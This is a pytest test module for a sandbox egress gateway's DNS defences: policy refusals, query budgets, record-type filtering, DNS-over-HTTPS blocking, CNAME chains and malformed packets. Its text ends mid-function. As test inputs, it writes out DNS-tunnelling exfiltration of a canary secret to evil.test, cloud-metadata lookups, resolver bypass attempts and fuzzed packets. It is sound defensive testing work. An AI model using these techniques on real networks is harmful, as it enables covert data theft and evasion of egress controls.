"""Names as a way out, and as a way to somewhere else (T24 to T36)."""

from __future__ import annotations

import asyncio
import base64
import contextlib
import random
import socket
import ssl
import struct
from typing import Any

import pytest

from tests.egress.dns_wire import (
    AAAA,
    CNAME,
    FORMAT_ERROR,
    NO_ERROR,
    NO_SUCH_NAME,
    REFUSED,
    SERVER_FAILURE,
    TXT,
    A,
    labels,
    option,
    question,
)
from tests.egress.test_packets import hello
from tests.egress.world import API, CANARY, EVIL, NAME_SERVER, SHARED, World

pytestmark = pytest.mark.root

NAMES = {"allow": ["api.test", "*.wild.test"]}
RANGE = {"subnets": {"allow": ["198.51.100.0/24"]}}
PRIVATE = "10.9.9.9"
PER_WILDCARD = 256
"""Distinct names of a wildcard in a minute."""
BURST = 200
"""Questions of a sandbox at once."""
HTTP = b"GET / HTTP/1.1\r\nhost: api.test\r\n\r\n"


# -- tunnels -------------------------------------------------------------------------------------------


@pytest.mark.defence("question-names")
@pytest.mark.section("14.2")
async def test_t24_a_name_that_is_not_allowed_is_asked_of_nobody(outside: World) -> None:
    guest = await outside.guest(NAMES)
    secret = CANARY.lower().encode().hex()[:60]
    for tcp in (False, True):
        reply = await guest.ask(question(f"{secret}.evil.test"), tcp=tcp)
        assert reply is not None
        assert (reply.code, reply.records) == (REFUSED, [])
    record = await guest.audited(kind="dns", decision="deny")
    assert (record["reason"], record["name"], record["generation"]) == ("domain_deny", f"{secret}.evil.test", 1)
    # Neither do a server name, a host and a request to a proxy make the gateway ask.
    await guest.connect(API, 443, hello(f"{secret}.evil.test"))
    await guest.connect(API, 80, f"GET / HTTP/1.1\r\nhost: {secret}.evil.test\r\n\r\n".encode())
    await guest.connect(API, 80, f"CONNECT {secret}.evil.test:443 HTTP/1.1\r\nhost: {secret}.evil.test:443\r\n\r\n".encode())
    ran = await guest.curl(f"https://{secret}.evil.test/")
    assert ran.code == 6, ran
    seen = outside.origins.seen()
    assert seen.is_silent
    assert not seen.questions


@pytest.mark.parametrize(
    ("policy", "code", "reason"),
    [
        ("deny-all", REFUSED, "deny_all"),
        ({"allow": []}, REFUSED, "deny_all"),
        ({"subnets": {"deny": ["203.0.113.0/24"]}}, REFUSED, "deny_all"),
        ({**RANGE, "dns": {"open": False}}, REFUSED, "domain_deny"),
        ({"allow": ["api.test"], **RANGE}, REFUSED, "domain_deny"),
        (RANGE, NO_ERROR, "domain"),
        ({"allow": ["api.test"], "dns": {"open": True}}, NO_ERROR, "domain"),
        ("allow-all", NO_ERROR, "allow_all"),
    ],
    ids=["deny-all", "empty", "only-deny", "closed", "names-and-range", "range", "open", "allow-all"],
)
@pytest.mark.defence("question-names")
@pytest.mark.section("14.2")
async def test_t24_what_resolves_under_which_policy(outside: World, policy: Any, code: int, reason: str) -> None:
    guest = await outside.guest(policy)
    reply = await guest.ask(question("other.test"))
    assert reply is not None
    assert (reply.code, reply.addresses) == (code, [SHARED] if code == NO_ERROR else [])
    record = await guest.audited(kind="dns", name="other.test")
    assert (record["decision"], record["reason"], record["generation"]) == ("deny" if code else "allow", reason, 1)
    assert outside.origins.seen().questions == ([] if code else ["other.test"])


@pytest.mark.defence("name-budget")
async def test_t25_a_wildcard_has_a_budget_of_names(outside: World) -> None:
    guest = await outside.guest(NAMES)
    for number in range(BURST - 20):
        await guest.ask(question(f"q{number}.wild.test"))
    # The rest as server names: whoever makes the gateway ask, it is the same budget.
    found = await asyncio.gather(*(guest.connect(EVIL, 443, hello(f"h{number}.wild.test")) for number in range(120)))
    assert {outcome.end for outcome in found} == {"ECONNRESET"}
    assert len(set(outside.origins.seen().questions)) == PER_WILDCARD
    assert await guest.audited(kind="tls", decision="deny", reason="dns_budget", generation=1)
    reply = await guest.ask(question("one-more.wild.test"))
    assert reply is not None
    assert reply.code == REFUSED
    record = await guest.audited(kind="dns", reason="dns_budget")
    assert (record["decision"], record["name"]) == ("deny", "one-more.wild.test")
    # Names that were there before go on, and so does a name that the policy spells out.
    for name in ("q1.wild.test", "api.test"):
        reply = await guest.ask(question(name))
        assert reply is not None
        assert reply.code != REFUSED
    # The budget is the sandbox's own.
    other = await outside.guest(NAMES)
    reply = await other.ask(question("a.wild.test"))
    assert reply is not None
    assert reply.addresses == [SHARED]


@pytest.mark.defence("question-budget")
async def test_t25_a_sandbox_has_a_budget_of_questions(outside: World) -> None:
    guest, other = await outside.guest(NAMES), await outside.guest(NAMES)
    loop = asyncio.get_running_loop()
    began = loop.time()
    codes = []
    with guest.socket(socket.SOCK_DGRAM) as sock:
        sock.connect((guest.network.host_address, 53))
        for number in range(BURST + 200):
            await loop.sock_sendall(sock, question("api.test", identifier=number))
            async with asyncio.timeout(5):
                codes.append((await loop.sock_recv(sock, 512))[3] & 15)
    most = BURST + 50 * (loop.time() - began) + 1
    assert BURST <= codes.count(NO_ERROR) <= most
    assert codes.count(REFUSED) == len(codes) - codes.count(NO_ERROR) > 0
    assert await guest.audited(kind="dns", decision="deny", reason="dns_budget")
    reply = await other.ask(question("api.test"))
    assert reply is not None
    assert reply.addresses == [API]


# -- kinds of questions --------------------------------------------------------------------------------

KINDS = (2, 5, 6, 10, 12, 15, TXT, AAAA, 33, 35, 43, 48, 52, 64, 65, 99, 249, 250, 251, 252, 253, 255, 256, 257, 65280, 0, 41)


@pytest.mark.defence("question-types")
async def test_t26_only_addresses_are_answered_under_a_policy(outside: World) -> None:
    steps = [["TXT", CANARY], ["CNAME", "evil.test"], ["TYPE65", base64.b64encode(b"\0\x01\0").decode()]]
    outside.origins.zone("api.test", [{"records": [["A", API], *steps]}])
    guest = await outside.guest(NAMES)
    for kind in KINDS:
        reply = await guest.ask(question("api.test", kind))
        assert reply is not None
        assert (reply.code, reply.records) == (NO_ERROR, []), kind
        assert CANARY.encode() not in reply.raw
    assert not outside.origins.seen().questions
    record = await guest.audited(kind="dns", decision="deny")
    assert (record["reason"], record["generation"]) == ("dns_type", 1)
    reply = await guest.ask(question(f"{API}.in-addr.arpa", 12))
    assert reply is not None
    assert reply.code == NO_SUCH_NAME
    assert not outside.origins.seen().questions


@pytest.mark.defence("question-types")
async def test_t26_allow_all_answers_records_but_no_hints(outside: World) -> None:
    outside.origins.zone(
        "api.test", [{"records": [["A", API], ["TXT", "text"], ["TYPE65", ""], ["TYPE64", ""], ["AAAA", "2001:db8::1"]]}]
    )
    guest = await outside.guest("allow-all")
    for kind, expected in ((A, 1), (TXT, 1), (AAAA, 0), (64, 0), (65, 0), (255, 0), (252, 0)):
        reply = await guest.ask(question("api.test", kind))
        assert reply is not None
        assert (reply.code, [record[0] for record in reply.records]) == (NO_ERROR, [kind] * expected), kind
    assert {asked["type"] for asked in outside.origins.seen().raw["dns"]} == {A, TXT}


@pytest.mark.parametrize("policy", [NAMES, "allow-all"], ids=["names", "allow-all"])
@pytest.mark.defence("random-questions")
async def test_t27_nothing_of_the_guests_question_but_the_name_goes_on(outside: World, policy: Any) -> None:
    guest = await outside.guest(policy)
    mine = option(8, b"\0\x01\x20\0" + CANARY[:4].encode()) + option(10, CANARY[:8].encode()) + option(12, CANARY.encode())
    reply = await guest.ask(question("aPi.TeSt", identifier=0x7F3A, options=mine))
    assert reply is not None
    assert (reply.identifier, reply.addresses) == (0x7F3A, [API])
    # Its own spelling comes back, or a resolver that mixes cases would not believe the answer.
    assert labels("aPi.TeSt") in reply.raw
    (asked,) = outside.origins.seen().raw["dns"]
    assert asked["name"] == "api.test"
    assert (asked["additional"], asked["bytes"]) == (0, len(question("api.test")))
    numbers, ports = {asked["id"]}, {asked["port"]}
    for number in range(8):
        await guest.ask(question(f"n{number}.wild.test", identifier=0x7F3A, flags=0x0130))
    for asked in outside.origins.seen().raw["dns"]:
        numbers.add(asked["id"])
        ports.add(asked["port"])
    assert 0x7F3A not in numbers or len(numbers) > 5
    assert len(numbers) > 5
    assert len(ports) > 5
    assert CANARY.encode() not in outside.origins.seen().data


# -- other servers -------------------------------------------------------------------------------------


@pytest.mark.defence("every-server")
async def test_t28_every_server_is_ours(outside: World) -> None:
    guest = await outside.guest(NAMES)
    for server in (EVIL, "203.0.113.53", PRIVATE, "169.254.169.254", NAME_SERVER, guest.network.host_address):
        for tcp in (False, True):
            reply = await guest.ask(question("api.test"), server, tcp=tcp)
            assert reply is not None, (server, tcp)
            assert reply.addresses == [API]
            reply = await guest.ask(question("x.evil.test"), server, tcp=tcp)
            assert reply is not None
            assert reply.code == REFUSED
    # It comes from the server that was asked.
    loop = asyncio.get_running_loop()
    with guest.socket(socket.SOCK_DGRAM) as sock:
        await loop.sock_sendto(sock, question("api.test"), ("203.0.113.53", 53))
        async with asyncio.timeout(5):
            _, peer = await loop.sock_recvfrom(sock, 512)
    assert peer == ("203.0.113.53", 53)
    seen = outside.origins.seen()
    assert seen.is_silent
    assert set(seen.questions) == {"api.test"}


@pytest.mark.defence("ports")
@pytest.mark.defence("datagrams")
async def test_t28_encrypted_and_other_dns_is_closed(outside: World) -> None:
    guest = await outside.guest({"allow": ["*"]})
    assert (await guest.connect(EVIL, 853, hello("api.test"))).end == "ECONNRESET"
    assert (await guest.audited(kind="tcp", origDst=f"{EVIL}:853"))["reason"] == "port_deny"
    for port in (443, 853, 5353, 5355, 8853):
        assert (await guest.datagram(EVIL, port, question("api.test"))).end == "ECONNREFUSED"
    seen = outside.origins.seen()
    assert seen.is_silent
    assert not seen.questions


@pytest.mark.defence("kernel-drop", "kernel-hand")
async def test_t28_a_server_on_the_hosts_port_53_is_not_in_the_way(outside: World) -> None:
    guest = await outside.guest(NAMES)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as mine, socket.create_server((guest.network.host_address, 53)):
        mine.bind((guest.network.host_address, 53))
        mine.setblocking(False)
        for tcp in (False, True):
            reply = await guest.ask(question("api.test"), tcp=tcp)
            assert reply is not None
            assert reply.addresses == [API]
        with pytest.raises(BlockingIOError):
            mine.recv(512)


@pytest.mark.defence("dns-streams")
async def test_t28_connections_with_questions_are_few(outside: World) -> None:
    guest, other = await outside.guest(NAMES), await outside.guest(NAMES)
    loop = asyncio.get_running_loop()
    held = [guest.socket(socket.SOCK_STREAM) for _ in range(40)]
    try:
        for stream in held:
            with contextlib.suppress(ConnectionResetError):
                await loop.sock_connect(stream, (guest.network.host_address, 53))
        record = await guest.audited(kind="dns", decision="deny")
        assert record["reason"] == "limit"
        assert await guest.ask(question("api.test"), tcp=True) is None
        assert await guest.ask(question("api.test")) is not None
        assert await other.ask(question("api.test"), tcp=True) is not None
    finally:
        for stream in held:
            stream.close()


@pytest.mark.defence("updates-hold")
async def test_t28_a_connection_carries_several_questions_each_under_the_policy_of_its_moment(outside: World) -> None:
    guest = await outside.guest(NAMES)
    loop = asyncio.get_running_loop()
    with guest.socket(socket.SOCK_STREAM) as stream:
        await loop.sock_connect(stream, (EVIL, 53))
        for code, policy in ((NO_ERROR, None), (REFUSED, "deny-all"), (NO_ERROR, "allow-all")):
            if policy is not None:
                await guest.policy(policy)
            asked = question("api.test")
            # In two pieces, because a stream has no datagrams.
            await loop.sock_sendall(stream, len(asked).to_bytes(2) + asked[:7])
            await loop.sock_sendall(stream, asked[7:])
            async with asyncio.timeout(5):
                reply = await loop.sock_recv(stream, 1024)
            assert reply[5] & 15 == code


@pytest.mark.defence("domain-patterns")
@pytest.mark.defence("question-names")
async def test_t29_dns_over_https_is_a_name_like_any_other(outside: World) -> None:
    guest = await outside.guest({"allow": ["api.test"]})
    for name in ("dns.google", "cloudflare-dns.com", "mozilla.cloudflare-dns.com", "use-application-dns.net"):
        reply = await guest.ask(question(name))
        assert reply is not None
        assert reply.code == REFUSED
        assert (await guest.connect(SHARED, 443, hello(name))).end == "ECONNRESET"
        assert (await guest.audited(kind="tls", name=name))["reason"] == "domain_deny"
    ran = await guest.curl("--doh-url", "https://dns.google/dns-query", "https://api.test/")
    assert ran.code != 0
    seen = outside.origins.seen()
    assert seen.is_silent
    assert not seen.questions


# -- answers that lead elsewhere -----------------------------------------------------------------------


@pytest.mark.defence("vetted-addresses")
async def test_t30_a_name_that_changes_its_mind_leads_nowhere_else(outside: World) -> None:
    guest = await outside.guest(NAMES)
    steps = [{"records": [["A", address, 0]]} for _ in range(10) for address in (API, PRIVATE)]
    outside.origins.zone("api.test", steps)
    ends: dict[str, int] = {}
    for number in range(20):
        # A policy that is another one: what was resolved is forgotten.
        await guest.policy({"allow": ["api.test", f"n{number}.test"]})
        for port in (443, 8080):
            found = await guest.connect(EVIL if number % 2 else API, port, hello("api.test"))
            ends[found.end] = ends.get(found.end, 0) + 1
    seen = outside.origins.seen()
    assert seen.questions.count("api.test") >= 20
    assert not seen.to(PRIVATE)
    assert ends["data"] == 10
    assert ends["ECONNRESET"] == 30
    record = await guest.audited(kind="tls", decision="deny", reason="address_class")
    assert record["name"] == "api.test"


@pytest.mark.defence("resolved-once")
async def test_t30_what_was_resolved_is_what_is_dialled(outside: World) -> None:
    guest = await outside.guest(NAMES)
    outside.origins.zone("api.test", [{"records": [["A", API, 0]]}, {"records": [["A", EVIL, 0]]}])
    reply = await guest.ask(question("api.test"))
    assert reply is not None
    assert reply.addresses == [API]
    assert (await guest.connect(API, 443, hello("api.test"))).end == "data"
    assert outside.origins.seen().questions == ["api.test"]
    assert not outside.origins.seen().to(EVIL)


@pytest.mark.defence("vetted-addresses")
async def test_t31_every_address_of_an_answer_is_judged(outside: World) -> None:
    guest = await outside.guest({**NAMES, "subnets": {"deny": [f"{EVIL}/32"]}})
    # The first one does not listen; the next ones must not be fallen back to.
    outside.origins.answer("api.test", "198.51.100.2", PRIVATE, "127.0.0.1", EVIL, "169.254.169.254", API)
    reply = await guest.ask(question("api.test"))
    assert reply is not None
    assert set(reply.addresses) == {"198.51.100.2", EVIL, API}
    assert (await guest.connect("198.51.100.2", 443, hello("api.test"))).end == "data"
    record = await guest.audited(kind="tls", decision="allow")
    assert record["dst"] == f"{API}:443"
    outside.origins.answer("api.test", "198.51.100.2", PRIVATE, EVIL)
    await guest.policy({"allow": ["api.test"], "subnets": {"deny": [f"{EVIL}/32"]}})
    assert (await guest.connect("198.51.100.2", 443, hello("api.test"))).end == "ECONNRESET"
    seen = outside.origins.seen()
    assert not seen.to(PRIVATE)
    assert not seen.to(EVIL)
    assert (await guest.audited(kind="tls", decision="deny"))["reason"] == "upstream_connect"


@pytest.mark.defence("special-names")
@pytest.mark.defence("vetted-addresses")
async def test_t32_an_alias_is_followed_and_judged_where_it_ends(outside: World) -> None:
    guest = await outside.guest({"allow": ["*.wild.test"]})
    zone = outside.origins.zone
    zone("good.wild.test", [{"records": [["CNAME", "cdn.elsewhere.test"]]}])
    zone("cdn.elsewhere.test", [{"records": [["A", SHARED]]}])
    zone("whole.wild.test", [{"records": [["A", SHARED, 60, "b.test"], ["CNAME", "a.test"], ["CNAME", "b.test", 60, "a.test"]]}])
    zone("inside.wild.test", [{"records": [["CNAME", "metadata.internal.test"]]}])
    zone("metadata.internal.test", [{"records": [["A", "169.254.169.254"]]}])
    zone("local.wild.test", [{"records": [["CNAME", "localhost"]]}])
    zone("self.wild.test", [{"records": [["CNAME", "self.wild.test"]]}])
    zone("loop.wild.test", [{"records": [["CNAME", "pool.wild.test"]]}])
    zone("pool.wild.test", [{"records": [["CNAME", "loop.wild.test"]]}])
    zone("circle.wild.test", [{"records": [["CNAME", "c.test"], ["CNAME", "circle.wild.test", 60, "c.test"]]}])
    for number in range(12):
        zone(f"l{number}.wild.test", [{"records": [["CNAME", f"l{number + 1}.wild.test"]]}])
    long = [["CNAME", f"m{number + 1}.test", 60, f"m{number}.test" if number else "many.wild.test"] for number in range(12)]
    zone("many.wild.test", [{"records": [*long, ["A", SHARED, 60, "m12.test"]]}])
    zone("stray.wild.test", [{"records": [["A", EVIL, 60, "other.test"]]}])
    expected: dict[str, tuple[int, list[str]]] = {
        "good": (NO_ERROR, [SHARED]),
        "whole": (NO_ERROR, [SHARED]),
        "inside": (NO_SUCH_NAME, []),
        "local": (SERVER_FAILURE, []),
        "self": (NO_ERROR, []),
        "loop": (SERVER_FAILURE, []),
        "circle": (SERVER_FAILURE, []),
        "l0": (SERVER_FAILURE, []),
        "many": (SERVER_FAILURE, []),
        # An address of a name that nobody asked about is none of this name's.
        "stray": (NO_ERROR, []),
    }
    for label, (code, addresses) in expected.items():
        before = len(outside.origins.seen().questions)
        reply = await guest.ask(question(f"{label}.wild.test"))
        assert reply is not None, label
        assert (reply.code, reply.addresses) == (code, addresses), label
        # The guest sees addresses, not the way there.
        assert not [record for record in reply.records if record[0] == CNAME]
        assert len(outside.origins.seen().questions) - before <= 4, label
    seen = outside.origins.seen()
    assert "localhost" not in seen.questions
    assert seen.is_silent
    assert await guest.audited(kind="dns", name="inside.wild.test", reason="dns_private")
    assert (await guest.connect(EVIL, 443, hello("inside.wild.test"))).end == "ECONNRESET"
    assert await guest.audited(kind="tls", name="inside.wild.test", reason="address_class")


@pytest.mark.defence("own-dial")
@pytest.mark.section("14.2")
async def test_t33_a_guest_that_lies_to_itself_reaches_the_real_one(outside: World) -> None:
    guest = await outside.guest({"allow": ["api.test"]})
    ran = await guest.curl("--resolve", f"api.test:443:{EVIL}", "https://api.test/")
    assert ran.out == "ok\n200", ran
    seen = outside.origins.seen()
    assert not seen.to(EVIL)
    assert len(seen.to(API)) == 1
    record = await guest.audited(kind="tls", decision="allow")
    assert (record["dst"], record["origDst"], record["dstMismatch"]) == (f"{API}:443", f"{EVIL}:443", True)
    # With the address that it was told there is nothing to note.
    ran = await guest.curl("https://api.test/")
    assert ran.code == 0
    await guest.audited(kind="tls", origDst=f"{API}:443")
    assert "dstMismatch" not in (await guest.audited(kind="tls", origDst=f"{API}:443"))


async def test_t34_an_open_flow_does_not_depend_on_what_the_name_says_later(outside: World) -> None:
    guest = await outside.guest({"allow": ["api.test"]})
    outside.origins.zone("api.test", [{"records": [["A", API, 1]]}, {"records": [["A", EVIL, 1]]}, {"code": 3}])
    outside.origins.script("api.test", echo=True)
    with guest.socket(socket.SOCK_STREAM) as stream:
        await asyncio.get_running_loop().sock_connect(stream, (API, 443))
        context = ssl.create_default_context(cafile=guest.bundle)
        reader, writer = await asyncio.open_connection(sock=stream, ssl=context, server_hostname="api.test")
        for number, addresses in enumerate(([], [EVIL], [])):
            if number:
                # Another policy, so that nothing is remembered.
                applied = await guest.policy({"allow": ["api.test", f"n{number}.test"]})
                assert (applied.closed_flows, applied.kept_flows) == (0, 1)
                reply = await guest.ask(question("api.test"))
                assert reply is not None
                assert reply.addresses == addresses
            writer.write(b"still there")
            assert await asyncio.wait_for(reader.readexactly(11), 5) == b"still there"
        writer.transport.abort()
    assert outside.origins.seen().questions == ["api.test"] * 3
    assert [connection["local"] for connection in outside.origins.seen().connections] == [f"{API}:443"]
    assert not await guest.audit(kind="revoke")


# -- what no server and no client should send ----------------------------------------------------------


def malformed(seed: int, count: int) -> list[bytes]:
    """Bytes that look like questions, more or less. The same for the same seed."""
    chance = random.Random(seed)
    whole = question("x.evil.test", options=option(10, b"12345678"))
    found = []
    for _ in range(count):
        data = bytearray(whole)
        for _ in range(chance.randint(1, 6)):
            data[chance.randrange(len(data))] = chance.randrange(256)
        found.append(bytes(data[: chance.randrange(len(data) + 1)]) if chance.random() < 0.3 else bytes(data))
    return found


@pytest.mark.defence("question-grammar")
async def test_t35_malformed_questions_are_refused_or_ignored(outside: World) -> None:
    guest = await outside.guest(NAMES)
    loop_of_pointers, itself = b"\xc0\x0e\xc0\x0c", b"\xc0\x0c"
    odd = {
        "pointer to itself": question("", encoded=itself),
        "pointers in a circle": question("", encoded=loop_of_pointers),
        "no question": question("api.test")[:12],
        "two questions": struct.pack("!HHHHHH", 1, 0x100, 2, 0, 0, 0) + question("api.test")[12:] * 2,
        "more than there is": question("api.test", count=9),
        "class CHAOS": question("version.bind", TXT, of_class=3),
        "class ANY": question("api.test", of_class=255),
        "opcode UPDATE": question("api.test", flags=0x2900),
        "opcode NOTIFY": question("api.test", flags=0x2100),
        "label of 64": question("", encoded=b"\x40" + b"a" * 64 + b"\0"),
        "reserved label": question("", encoded=b"\x80" + b"a" * 10 + b"\0"),
        "name of 255": question("", encoded=(b"\x3f" + b"a" * 63) * 4 + b"\0"),
        "dot in a label": question("", encoded=b"\x08api.test\0"),
        "zero in a label": question("", encoded=b"\x04a\0pi\x04test\0"),
        "blank in a label": question("a pi.test"),
        "bytes": question(b"\xff\xfe.test"),
        "root": question("", encoded=b"\0"),
    }
    for what, data in odd.items():
        reply = await guest.ask(data)
        assert reply is not None, what
        assert reply.code in (FORMAT_ERROR, NO_SUCH_NAME, REFUSED), what
        assert not reply.records, what
    for data in (b"", b"\0", question("api.test")[:5], question("api.test", flags=0x8180)):
        found = await guest.datagram(guest.network.host_address, 53, data, 0.2)
        assert found.end == "timeout" or found.data[3] & 15 == FORMAT_ERROR
    with guest.socket(socket.SOCK_DGRAM) as sock:
        for data in malformed(7, 300):
            sock.sendto(data, (guest.network.host_address, 53))
    assert outside.origins.seen().questions == []
    assert await guest.audited(kind="dns", decision="deny", reason="dns_malformed")
    # It still answers.
    other = await outside.guest(NAMES)
    reply = await other.ask(question("api.test"))
    assert reply is not None
    assert reply.addresses == [API]
    assert outside.gateway.restarts == 0


@pytest.mark.defence("answers-match")
async def test_t35_malformed_answers_are_no_answers(outside: World) -> None:
    guest = await outside.guest({"allow": ["*.wild.test"]})
    head = b"\x81\x80\0\x01\0\x01\0\0\0\0"

    def raw(name: str, rest: bytes, start: bytes = head) -> None:
        asked = labels(f"{name}.wild.test") + struct.pack("!HH", 1, 1)
        outside.origins.zone(f"{name}.wild.test", [{"raw": base64.b64encode(start + asked + rest).decode()}])

    record = struct.pack("!HHIH", 1, 1, 60, 4) + socket.inet_aton(EVIL)
    raw("circle", b"\xc0\x2f\xc0\x2d" + record)
    raw("short", b"\xc0\x0c" + record[:7])
    raw("long", b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 60, 400) + socket.inet_aton(EVIL))
    raw("chaos", b"\xc0\x0c" + struct.pack("!HHIH", 1, 3, 60, 4) + socket.inet_aton(EVIL))
    raw("question", b"\xc0\x0c" + record, b"\x01\0\0\x01\0\x01\0\0\0\0")
    other = struct.pack("!HH", 1, 1) + b"\xc0\x0c" + record
    outside.origins.zone("another.wild.test", [{"raw": base64.b64encode(head + labels("other.test") + other).decode()}])
    names = ("circle", "short", "long", "chaos", "question", "another")
    replies = await asyncio.gather(*(guest.ask(question(f"{name}.wild.test"), wait_s=12) for name in names))
    for name, reply in zip(names, replies, strict=True):
        assert reply is not None, name
        assert (reply.code, reply.records) in ((SERVER_FAILURE, []), (NO_ERROR, [])), name
    assert outside.origins.seen().is_silent


@pytest.mark.defence("datagram-size")
async def test_t35_large_answers_fit_or_say_that_they_do_not(outside: World) -> None:
    many = [f"198.51.{102 + number // 200}.{number % 200 + 1}" for number in range(300)]
    outside.origins.zone("api.test", [{"records": [["A", address] for address in many], "truncated": True}])
    guest = await outside.guest(NAMES)
    reply = await guest.ask(question("api.test"))
    assert reply is not None
    assert (reply.truncated, len(reply.raw) <= 512) == (True, True)
    reply = await guest.ask(question("api.test", options=b""))
    assert reply is not None
    assert len(reply.raw) <= 1232
    reply = await guest.ask(question("api.test"), tcp=True)
    assert reply is not None
    assert reply.addresses == many[:64]
    assert [asked["over"] for asked in outside.origins.seen().raw["dns"]] == ["udp", "tcp"]


@pytest.mark.defence("small-cache")
async def test_t35_answers_do_not_fill_the_gateways_memory(outside: World) -> None:
    guest = await outside.guest("allow-all")
    text = base64.b64encode((b"\xff" + b"t" * 255) * 200).decode()

    async def ask(number: int) -> None:
        outside.origins.zone(f"t{number}.test", [{"records": [["TYPE16", text, 300]], "truncated": True}])
        reply = await guest.ask(question(f"t{number}.test", TXT), tcp=True)
        assert reply is not None
        assert len(reply.raw) > 50_000

    for number in range(20):
        await ask(number)
    before = outside.gateway_memory_kib
    for number in range(20, 180):
        await ask(number)
    assert outside.gateway_memory_kib - before < 4_000, "160 answers of 51 kB are remembered"


# -- names ---------------------------------------------------------------------------------------------

LONGEST = ".".join(["a" * 63] * 3 + ["b" * 51, "wild.test"])
"""253 characters."""


@pytest.mark.parametrize(
    ("name", "asked", "code", "reason"),
    [
        ("api.test", "api.test", NO_ERROR, "domain"),
        ("API.TEST", "api.test", NO_ERROR, "domain"),
        ("_acme-challenge.wild.test", "_acme-challenge.wild.test", NO_SUCH_NAME, "domain"),
        ("-a-.wild.test", "-a-.wild.test", NO_SUCH_NAME, "domain"),
        ("wild.test", None, REFUSED, "domain_deny"),
        ("api.test.local", None, NO_SUCH_NAME, "name_special"),
        ("api.test.localdomain", None, NO_SUCH_NAME, "name_special"),
        ("localhost", None, NO_SUCH_NAME, "name_special"),
        ("a.localhost", None, NO_SUCH_NAME, "name_special"),
        ("single", None, NO_SUCH_NAME, "name_special"),
        ("x.onion", None, NO_SUCH_NAME, "name_special"),
        ("api.test.corp.example", None, REFUSED, "domain_deny"),
        ("xapi.test", None, REFUSED, "domain_deny"),
        ("api.test.evil.test", None, REFUSED, "domain_deny"),
        ("127.0.0.1", None, FORMAT_ERROR, "name_invalid"),
        ("0x7f.1", None, FORMAT_ERROR, "name_invalid"),
        ("2130706433", None, FORMAT_ERROR, "name_invalid"),
        ("a.wild.test.127.1", None, FORMAT_ERROR, "name_invalid"),
        (b"\xe4pi.test", None, FORMAT_ERROR, "name_invalid"),
        (b"a*b.wild.test", None, FORMAT_ERROR, "name_invalid"),
        (
            ".".join(["a" * 63] * 3 + ["b" * 51, "wild.test"]),
            ".".join(["a" * 63] * 3 + ["b" * 51, "wild.test"]),
            NO_SUCH_NAME,
            "domain",
        ),
    ],
)
@pytest.mark.defence("special-names")
@pytest.mark.defence("question-names")
async def test_t36_a_name_has_one_form_or_is_refused(
    outside: World, name: str | bytes, asked: str | None, code: int, reason: str
) -> None:
    guest = await outside.guest(NAMES)
    reply = await guest.ask(question(name))
    assert reply is not None
    assert reply.code == code
    record = await guest.audited(kind="dns")
    assert (record["decision"], record["reason"]) == ("allow" if reason == "domain" else "deny", reason)
    assert outside.origins.seen().questions == ([] if asked is None else [asked])


@pytest.mark.defence("special-names")
async def test_t36_special_names_never_leave_under_any_policy(outside: World) -> None:
    guest = await outside.guest("allow-all")
    for name in ("localhost", "single", "host.local", "x.onion", "x.invalid", "metadata.google.internal"):
        for kind in (A, TXT):
            reply = await guest.ask(question(name, kind))
            assert reply is not None
            assert reply.code == NO_SUCH_NAME, name
    assert not outside.origins.seen().questions


# -- addresses that stand for names --------------------------------------------------------------------

VIRTUAL = {"allow": ["api.test", "*.wild.test"], "dns": {"mode": "virtual"}}


async def test_virtual_answers_ask_nobody_until_there_is_a_connection(outside: World) -> None:
    guest = await outside.guest(VIRTUAL)
    reply = await guest.ask(question("api.test"))
    assert reply is not None
    (address,) = reply.addresses
    assert address.startswith(("198.18.", "198.19."))
    assert (await guest.ask(question("x.evil.test"))).code == REFUSED  # type: ignore[union-attr]
    assert not outside.origins.seen().questions
    ran = await guest.curl("https://api.test/")
    assert ran.out == "ok\n200", ran
    seen = outside.origins.seen()
    assert seen.questions == ["api.test"]
    assert len(seen.to(API)) == 1
    record = await guest.audited(kind="tls", decision="allow")
    assert (record["name"], record["dst"], record["origDst"]) == ("api.test", f"{API}:443", f"{address}:443")
    assert "dstMismatch" not in record


@pytest.mark.defence("virtual-names")
async def test_virtual_addresses_give_every_protocol_a_name(outside: World) -> None:
    guest = await outside.guest(VIRTUAL)
    outside.origins.script(f"{API}:22", first=b"SSH-2.0-test\r\n")
    reply = await guest.ask(question("api.test"))
    assert reply is not None
    (address,) = reply.addresses
    found = await guest.connect(address, 22, b"SSH-2.0-mine\r\n")
    assert found.data == b"SSH-2.0-test\r\n"
    record = await guest.audited(kind="tcp", decision="allow")
    assert (record["name"], record["reason"]) == ("api.test", "domain")
    # The name of the address and that of the greeting are one, or nothing is.
    assert (await guest.connect(address, 443, hello("a.wild.test"))).end == "ECONNRESET"
    assert (await guest.audited(kind="tls", decision="deny"))["reason"] == "name_mismatch"
    # Addresses that stand for nothing are closed, and so is one whose name is not allowed any more.
    assert (await guest.connect("198.18.200.200", 443, hello("api.test"))).end == "ECONNRESET"
    assert (await guest.audited(kind="tcp", origDst="198.18.200.200:443"))["reason"] == "hard_deny"
    assert (await guest.connect(address, 25, b"EHLO")).end == "ECONNRESET"
    await guest.policy({"allow": ["*.wild.test"], "dns": {"mode": "virtual"}})
    assert (await guest.connect(address, 22, b"SSH-2.0-mine\r\n")).end == "ECONNRESET"
    await guest.policy(NAMES)
    assert (await guest.connect(address, 443, hello("api.test"))).end == "ECONNRESET"
    other = await outside.guest(VIRTUAL)
    assert (await other.connect(address, 443, hello("api.test"))).end == "ECONNRESET"
    seen = outside.origins.seen()
    assert len(seen.connections) == 1


@pytest.mark.defence("vetted-addresses")
async def test_virtual_names_that_resolve_to_closed_addresses_stay_closed(outside: World) -> None:
    guest = await outside.guest(VIRTUAL)
    outside.origins.answer("api.test", PRIVATE)
    reply = await guest.ask(question("api.test"))
    assert reply is not None
    assert (await guest.connect(reply.addresses[0], 80, HTTP)).end == "ECONNRESET"
    assert (await guest.connect(reply.addresses[0], 8080, b"raw bytes")).end == "ECONNRESET"
    assert await guest.audited(decision="deny", reason="address_class")
    assert outside.origins.seen().is_silent


async def test_virtual_addresses_mean_the_same_to_a_gateway_that_was_started_again(outside: World) -> None:
    guest = await outside.guest(VIRTUAL)

    async def told(name: str) -> str:
        reply = await guest.ask(question(name))
        assert reply is not None
        return reply.addresses[0]

    names = ["api.test", *(f"n{number}.wild.test" for number in range(5))]
    before = {name: await told(name) for name in names}
    assert len(set(before.values())) == len(names)
    outside.gateway._kill(outside.gateway._process)  # type: ignore[arg-type]
    async with asyncio.timeout(5):
